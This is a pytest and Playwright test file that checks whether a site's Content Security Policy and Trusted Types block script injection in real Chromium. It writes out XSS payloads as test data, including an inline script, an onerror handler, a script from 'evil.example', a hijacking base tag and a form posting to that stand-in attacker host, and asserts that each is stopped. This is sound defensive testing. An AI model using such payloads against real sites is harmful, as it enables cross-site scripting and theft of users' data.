"""The content policy at work in real Chromium: what an injected text could do on a page of each kind."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.house import House

# Each tries one way by which a text becomes a page or a script, and says what came of it.
ATTEMPTS = """() => {
  const outcome = {};
  const attempt = (name, how) => {
    try { how(); outcome[name] = 'done'; } catch (refused) { outcome[name] = refused.name; }
  };
  const spare = document.createElement('div');
  const text = '<img src=x>';
  attempt('innerHTML', () => { spare.innerHTML = text; });
  attempt('outerHTML', () => { document.createElement('p').appendChild(spare); spare.outerHTML = text; });
  attempt('insertAdjacentHTML', () => spare.insertAdjacentHTML('beforeend', text));
  attempt('document.write', () => document.write(text));
  attempt('DOMParser', () => new DOMParser().parseFromString(text, 'text/html'));
  attempt('fragment', () => document.createRange().createContextualFragment(text));
  attempt('srcdoc', () => { document.createElement('iframe').srcdoc = text; });
  attempt('script.src', () => { document.createElement('script').src = '/static/x.js'; });
  attempt('script.text', () => { document.createElement('script').text = 'window.ran = 1'; });
  attempt('worker', () => new Worker('/static/x.js'));
  attempt('timer', () => setTimeout('window.ran = 1', 0));
  attempt('handler', () => document.createElement('b').setAttribute('onclick', 'window.ran = 1'));
  attempt('policy', () => trustedTypes.createPolicy('another', { createHTML: (one) => one }));
  attempt('default', () => trustedTypes.createPolicy('default', { createHTML: (one) => one }));
  return outcome;
}"""


@pytest.fixture
def quiet(chromium: Browser) -> Iterator[Page]:
    """A page that nobody watches: what the policy stops the browser complains about, and here that is the aim."""
    context = chromium.new_context(locale="en", service_workers="block")
    yield context.new_page()
    context.close()


@pytest.mark.parametrize(
    "path", ["/en/", "/en/help/", "/en/quiz/new-drugs/", "/office/sign-in", "/class/cards/", "/join"]
)
def test_no_text_becomes_a_page_or_a_script(house: House, quiet: Page, path: str) -> None:
    quiet.goto(house.url + path)
    outcome = quiet.evaluate(ATTEMPTS)
    assert {name for name, what in outcome.items() if what == "done"} == set(), outcome
    assert len(outcome) == 14
    assert quiet.evaluate("window.ran") is None


@pytest.mark.parametrize("path", ["/en/help/", "/office/sign-in"])
def test_a_script_that_somebody_put_into_a_page_does_not_run(house: House, quiet: Page, path: str) -> None:
    """As if a fault in a template let markup through: inline, from another host, and on the desk from this one too."""
    body = quiet.request.get(house.url + "/en/").text()
    prefix = body.split('src="/static/')[1].split("/")[0]
    markup = (
        "<script>window.ran='inline'</script><img src=x onerror=\"window.ran='handler'\">"
        "<script src='https://evil.example/x.js'></script><style>body{color:red}</style>"
        f"<script src='/static/{prefix}/kept.js'></script><base href='https://evil.example/'>"
        "<form action='https://evil.example/' id='stolen'></form>"
    )

    def injected(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", markup + "</main>"))

    came: list[str] = []
    quiet.route("**" + path, injected)
    quiet.on("requestfinished", lambda request: came.append(request.url))
    quiet.goto(house.url + path)
    quiet.wait_for_load_state()
    assert quiet.evaluate("window.ran") is None
    assert quiet.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
    assert quiet.evaluate("document.baseURI") == house.url + path
    assert any(one.endswith("site.css") for one in came)
    assert not [one for one in came if "evil.example" in one]
    assert bool([one for one in came if one.endswith("kept.js")]) == (not path.startswith("/office")), "without a nonce"
    quiet.evaluate("document.getElementById('stolen').submit()")
    quiet.wait_for_timeout(200)
    assert quiet.url == house.url + path


def test_no_other_page_can_hold_ours_in_a_frame(house: House, quiet: Page) -> None:
    frame = f"<iframe src='{house.url}/en/'></iframe>"
    quiet.route("**/frame", lambda route: route.fulfill(body=frame, content_type="text/html"))
    quiet.goto(f"{house.url}/frame")
    quiet.wait_for_load_state()
    expect(quiet.frame_locator("iframe").locator("#main")).to_have_count(0)
